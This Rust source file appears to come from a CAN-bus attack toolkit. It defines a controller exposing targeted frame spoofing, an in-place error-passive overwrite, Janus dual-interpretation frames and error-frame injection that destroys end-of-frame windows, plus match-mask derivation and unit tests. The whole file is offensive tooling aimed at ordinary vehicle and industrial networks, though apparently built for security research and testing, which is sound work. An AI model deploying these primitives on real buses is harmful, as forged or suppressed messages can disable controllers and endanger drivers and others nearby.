//! Attack controller: the five user-facing primitives (plain transmit,
//! Janus transmit, targeted spoof in its two variants, and error-frame
//! injection) on top of [`BitEngine`].

use crate::engine::{expand_for_brs, BitEngine};
use crate::error::AttackError;
use crate::frame::{encode, Frame, FrameSpec};
use canhack_core::CanHackPort;

/// Derived bitstream-match template for targeting a specific frame's
/// identifier on the bus.
///
/// `bitstream_match` always carries ten recessive bits (`0x3FF`, the IFS/
/// idle window) in its top ten relevant positions, followed by the SOF and
/// identifier-field prefix copied from the targeted frame.
#[derive(Debug, Clone, Copy)]
pub struct AttackParams {
    /// Mask applied to the rolling sampled-bit shift register.
    pub bitstream_mask: u64,
    /// Expected value once masked.
    pub bitstream_match: u64,
    /// Number of frame bits (SOF + identifier prefix) included in the match.
    pub n_frame_match_bits: usize,
}

impl AttackParams {
    /// Builds the match template that identifies `frame` the moment its SOF
    /// and identifier field appear on the bus.
    pub fn from_frame(frame: &Frame) -> Self {
        let n_frame_match_bits = frame.last_arbitration_bit + 2;
        let idle_bits = 10u32;
        let total_bits = n_frame_match_bits as u32 + idle_bits;

        let mut mask = 0u64;
        let mut match_val = 0u64;
        for _ in 0..idle_bits {
            mask = (mask << 1) | 1;
            match_val = (match_val << 1) | 1;
        }
        for i in 0..n_frame_match_bits {
            mask = (mask << 1) | 1;
            match_val = (match_val << 1) | (frame.tx_bitstream[i] as u64);
        }
        debug_assert_eq!(total_bits as usize, idle_bits as usize + n_frame_match_bits);

        Self {
            bitstream_mask: mask,
            bitstream_match: match_val,
            n_frame_match_bits,
        }
    }
}

/// Two frame slots (for Janus) plus the derived attack masks, driving a
/// [`BitEngine`].
pub struct AttackController<P: CanHackPort> {
    engine: BitEngine<P>,
    frames: [Frame; 2],
    params: Option<AttackParams>,
}

impl<P: CanHackPort> AttackController<P> {
    /// Wraps a platform port. No frame is configured yet.
    pub fn new(port: P) -> Self {
        Self {
            engine: BitEngine::new(port),
            frames: [Frame::new(), Frame::new()],
            params: None,
        }
    }

    /// Clears both frame slots and the watchdog. Mirrors the public API's
    /// `init()`.
    pub fn init(&mut self) {
        self.frames = [Frame::new(), Frame::new()];
        self.params = None;
        self.engine.set_timeout(0);
    }

    /// Sets the watchdog budget consumed by every subsequent primitive.
    pub fn set_timeout(&mut self, timeout: u32) {
        self.engine.set_timeout(timeout);
    }

    /// Aborts whatever primitive is in flight by starving its watchdog.
    pub fn stop(&mut self) {
        self.engine.stop();
    }

    /// Encodes `spec` into frame slot `index` (0 or 1).
    pub fn set_frame(&mut self, index: usize, spec: &FrameSpec) -> Result<(), AttackError> {
        encode(spec, &mut self.frames[index]).map_err(|_| AttackError::NotConfigured)?;
        if index == 0 {
            self.params = Some(AttackParams::from_frame(&self.frames[0]));
        }
        Ok(())
    }

    /// Reads back a previously built frame.
    pub fn get_frame(&self, index: usize) -> &Frame {
        &self.frames[index]
    }

    /// Recomputes the identifier-match masks from frame slot 0. Automatic
    /// after every `set_frame(0, ..)`; exposed for callers that mutate
    /// `get_frame`'s backing storage directly through lower-level APIs.
    pub fn set_attack_masks(&mut self) {
        self.params = Some(AttackParams::from_frame(&self.frames[0]));
    }

    fn params(&self) -> Result<AttackParams, AttackError> {
        self.params.ok_or(AttackError::NotConfigured)
    }

    /// Toggles TX at the arbitration bit rate for 160 bit periods.
    pub fn send_square_wave(&mut self) -> Result<(), AttackError> {
        Ok(self.engine.send_square_wave()?)
    }

    /// Mirrors RX onto the debug pin for 160 bit periods (700 if `fd`),
    /// without driving TX. Useful for calibrating sample-point placement
    /// against a logic analyzer before attempting a transmit primitive.
    pub fn loopback(&mut self, fd: bool) -> Result<(), AttackError> {
        Ok(self.engine.loopback(fd)?)
    }

    /// Plain transmit of frame slot 0 (or slot 1, if `second`), retrying
    /// arbitration loss up to `retries` times.
    pub fn send_frame(&mut self, retries: u32, second: bool) -> Result<(), AttackError> {
        let index = second as usize;
        if !self.frames[index].frame_set {
            return Err(AttackError::NotConfigured);
        }
        Ok(self.engine.send_frame(&self.frames[index], retries)?)
    }

    /// Janus dual-interpretation transmit of frame slots 0 and 1.
    pub fn send_janus_frame(
        &mut self,
        sync_time: u32,
        split_time: u32,
        sync_time_fd: u32,
        split_time_fd: u32,
    ) -> Result<(), AttackError> {
        if !self.frames[0].frame_set || !self.frames[1].frame_set {
            return Err(AttackError::NotConfigured);
        }
        Ok(self.engine.send_janus_frame(
            &self.frames[0],
            &self.frames[1],
            sync_time,
            split_time,
            sync_time_fd,
            split_time_fd,
        )?)
    }

    /// Waits for frame slot 0's identifier to appear on the bus, then
    /// transmits frame slot 0 in full (re-arbitrating from the next IFS).
    pub fn spoof_frame(&mut self) -> Result<(), AttackError> {
        let params = self.params()?;
        Ok(self.engine.spoof_frame(
            &self.frames[0],
            params.bitstream_mask,
            params.bitstream_match,
        )?)
    }

    /// Waits for frame slot 0's identifier to appear on the bus, then
    /// overwrites the rest of that same frame in place instead of
    /// re-arbitrating, compensating for the platform's RX loopback latency.
    pub fn spoof_frame_error_passive(&mut self, loopback_offset: u32) -> Result<(), AttackError> {
        let params = self.params()?;
        Ok(self.engine.spoof_frame_error_passive(
            &self.frames[0],
            params.bitstream_mask,
            params.bitstream_match,
            params.n_frame_match_bits,
            loopback_offset,
        )?)
    }

    /// Waits for frame slot 0's identifier, optionally injects an active
    /// error flag, then destroys the EOF/IFS window matched by
    /// `(eof_mask, eof_match)` for `repeat` cycles.
    ///
    /// `eof_mask`/`eof_match` are arbitration-phase-width templates; pass
    /// them through [`expand_for_brs`] first when frame slot 0 is an FD
    /// frame with BRS, since the EOF window is then sampled at the faster
    /// data-phase bit rate.
    pub fn error_attack(
        &mut self,
        inject_error: bool,
        eof_mask: u64,
        eof_match: u64,
        repeat: u32,
    ) -> Result<(), AttackError> {
        let params = self.params()?;
        Ok(self.engine.error_attack(
            params.bitstream_mask,
            params.bitstream_match,
            inject_error,
            eof_mask,
            eof_match,
            repeat,
        )?)
    }
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn attack_params_top_bits_are_idle_window() {
        let spec = FrameSpec::standard_data(0x123, &[0xA5]);
        let mut frame = Frame::new();
        encode(&spec, &mut frame).unwrap();
        let params = AttackParams::from_frame(&frame);
        let total_bits = params.n_frame_match_bits as u32 + 10;
        let top_ten = (params.bitstream_match >> (total_bits - 10)) & 0x3FF;
        assert_eq!(top_ten, 0x3FF);
    }

    #[test]
    fn expand_for_brs_widens_each_bit_fourfold() {
        let (mask, match_val) = expand_for_brs(0b111, 0b101, 3);
        assert_eq!(mask, 0b1111_1111_1111);
        assert_eq!(match_val, 0b1111_0000_1111);
    }
}
